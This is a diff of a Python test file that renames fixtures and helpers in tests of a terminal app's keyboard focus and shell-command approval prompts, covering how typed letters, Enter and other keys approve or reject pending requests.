-        assert isinstance(desk.app.focused, ToolsPane)
-        await desk.pilot.press("escape")
-        await desk.until(lambda: not isinstance(desk.app.focused, ToolsPane))
-        desk.clock.now += 1
-        await desk.until(lambda: desk.app.focused is workbench.panel)
+    async with open_app(size=(120, 30)) as harness:
+        await harness.driver.press("ctrl+l")
+        await harness.wait_until(lambda: isinstance(harness.app.focused, ToolsPane))
+        harness.engine.send(TurnBegin("go"), StepBegin(1))
+        harness.ask(build_shell_request())
+        await harness.wait_until(lambda: harness.screen.state.requests)
+        harness.clock.now += 1
+        session_view = harness.screen.controllers.session_view
+        session_view._focus_offer.offer_now()
+        assert isinstance(harness.app.focused, ToolsPane)
+        await harness.driver.press("escape")
+        await harness.wait_until(lambda: not isinstance(harness.app.focused, ToolsPane))
+        harness.clock.now += 1
+        await harness.wait_until(lambda: harness.app.focused is session_view.panel)
 
 
 LONG_S = 3600.0
-"""A pause that ends in no test: every letter comes before it is over."""
+"""Longer than any test, so that no pending letter is settled by the timer."""
 
 
 @pytest.mark.parametrize(
@@ -466,69 +480,69 @@ LONG_S = 3600.0
         "ask",
     ],
 )
-async def test_a_sentence_goes_to_the_prompt_and_answers_nothing(open_desk: Any, sentence: str) -> None:
-    async with open_desk(letter_pause_s=LONG_S) as desk:
-        await asked(desk, shell())
-        await desk.pilot.press(*({" ": "space", ",": "comma"}.get(letter, letter) for letter in sentence))
-        await desk.until(lambda: desk.prompt_text == sentence)
-        assert desk.engine.answers == []
-        assert desk.app.focused is desk.screen.prompt.editor
-        assert "Allow Bash" in desk.shown()
-        assert not desk.screen.furnished.workbench.panel.query("#approval-feedback")
+async def test_a_sentence_goes_to_the_prompt_and_answers_nothing(open_app: Any, sentence: str) -> None:
+    async with open_app(letter_pause_s=LONG_S) as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press(*({" ": "space", ",": "comma"}.get(letter, letter) for letter in sentence))
+        await harness.wait_until(lambda: harness.prompt_text == sentence)
+        assert harness.engine.answers == []
+        assert harness.app.focused is harness.screen.prompt.editor
+        assert "Allow Bash" in harness.screen_text()
+        assert not harness.screen.controllers.session_view.panel.query("#approval-feedback")
 
 
-async def test_letters_that_came_in_one_burst_stay_in_order(open_desk: Any) -> None:
-    async with open_desk(letter_pause_s=LONG_S) as desk:
-        await asked(desk, shell())
+async def test_a_burst_of_letters_stays_in_order(open_app: Any) -> None:
+    async with open_app(letter_pause_s=LONG_S) as harness:
+        await send_requests(harness, build_shell_request())
         for letter in "yes but no":
-            desk.app.post_message(events.Key("space" if letter == " " else letter, letter))
-        await desk.until(lambda: desk.prompt_text == "yes but no")
-        assert desk.engine.answers == []
+            harness.app.post_message(events.Key("space" if letter == " " else letter, letter))
+        await harness.wait_until(lambda: harness.prompt_text == "yes but no")
+        assert harness.engine.answers == []
 
 
-@pytest.mark.parametrize("more", [("enter",), ("y",)], ids=["enter", "the same again"])
-async def test_whoever_means_a_letter_need_not_wait(open_desk: Any, more: tuple[str, ...]) -> None:
-    async with open_desk(letter_pause_s=LONG_S) as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("y", *more)
-        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "approve")])
+@pytest.mark.parametrize("more", [("enter",), ("y",)], ids=["enter", "same letter"])
+async def test_enter_or_the_same_letter_again_confirms_a_letter(open_app: Any, more: tuple[str, ...]) -> None:
+    async with open_app(letter_pause_s=LONG_S) as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("y", *more)
+        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "approve")])
 
 
-async def test_another_key_takes_a_letter_back(open_desk: Any) -> None:
-    async with open_desk(letter_pause_s=LONG_S) as desk:
-        await asked(desk, shell())
-        await desk.pilot.press("y", "right", "right", "right", "enter")
-        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r1", "reject")])
+async def test_another_key_discards_a_pending_letter(open_app: Any) -> None:
+    async with open_app(letter_pause_s=LONG_S) as harness:
+        await send_requests(harness, build_shell_request())
+        await harness.driver.press("y", "right", "right", "right", "enter")
+        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "reject")])
 
 
-async def test_a_sentence_of_the_first_half_second_goes_to_the_prompt(open_desk: Any) -> None:
-    async with open_desk(letter_pause_s=LONG_S) as desk:
-        desk.ask(shell())
-        await desk.until(lambda: desk.screen.state.requests)
-        await desk.pilot.press("f2", "n", "o")
-        await desk.until(lambda: desk.prompt_text == "no")
-        assert desk.engine.answers == []
+async def test_a_sentence_in_the_first_half_second_goes_to_the_prompt(open_app: Any) -> None:
+    async with open_app(letter_pause_s=LONG_S) as harness:
+        harness.ask(build_shell_request())
+        await harness.wait_until(lambda: harness.screen.state.requests)
+        await harness.driver.press("f2", "n", "o")
+        await harness.wait_until(lambda: harness.prompt_text == "no")
+        assert harness.engine.answers == []
 
 
-async def test_a_letter_does_not_answer_what_was_asked_after_it(open_desk: Any) -> None:
-    async with open_desk(letter_pause_s=LONG_S) as desk:
-        await asked(desk, shell("r1"), shell("r2", "rm x"))
-        await desk.pilot.press("y")
-        await desk.say(RequestClosed("r1"))
-        await desk.until(lambda: "rm x" in desk.shown())
-        desk.clock.now += 1
-        await desk.pilot.press("n", "enter")
-        await desk.until(lambda: desk.engine.answers == [ApprovalResponse("r2", "reject")])
+async def test_a_letter_does_not_answer_a_later_request(open_app: Any) -> None:
+    async with open_app(letter_pause_s=LONG_S) as harness:
+        await send_requests(harness, build_shell_request("r1"), build_shell_request("r2", "rm x"))
+        await harness.driver.press("y")
+        await harness.send(RequestClosed("r1"))
+        await harness.wait_until(lambda: "rm x" in harness.screen_text())
+        harness.clock.now += 1
+        await harness.driver.press("n", "enter")
+        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r2", "reject")])
 
 
 @pytest.mark.parametrize("how", ["sent", "deleted"])
-async def test_a_request_gets_the_keyboard_once_the_prompt_is_empty_again(open_desk: Any, how: str) -> None:
-    async with open_desk() as desk:
-        await desk.write("hm")
-        desk.engine.say(TurnBegin("go"), StepBegin(1))
-        desk.ask(shell())
-        await desk.until(lambda: desk.screen.state.requests)
-        await desk.pilot.press(*(("enter",) if how == "sent" else ("backspace", "backspace")))
-        await desk.until(lambda: desk.prompt_text == "")
-        desk.clock.now += 1
-        await desk.until(lambda: desk.app.focused is desk.screen.furnished.workbench.panel)
+async def test_a_request_gets_the_focus_once_the_prompt_is_empty(open_app: Any, how: str) -> None:
+    async with open_app() as harness:
+        await harness.type_text("hm")
+        harness.engine.send(TurnBegin("go"), StepBegin(1))
+        harness.ask(build_shell_request())
+        await harness.wait_until(lambda: harness.screen.state.requests)
+        await harness.driver.press(*(("enter",) if how == "sent" else ("backspace", "backspace")))
+        await harness.wait_until(lambda: harness.prompt_text == "")
+        harness.clock.now += 1
+        await harness.wait_until(lambda: harness.app.focused is harness.screen.controllers.session_view.panel)
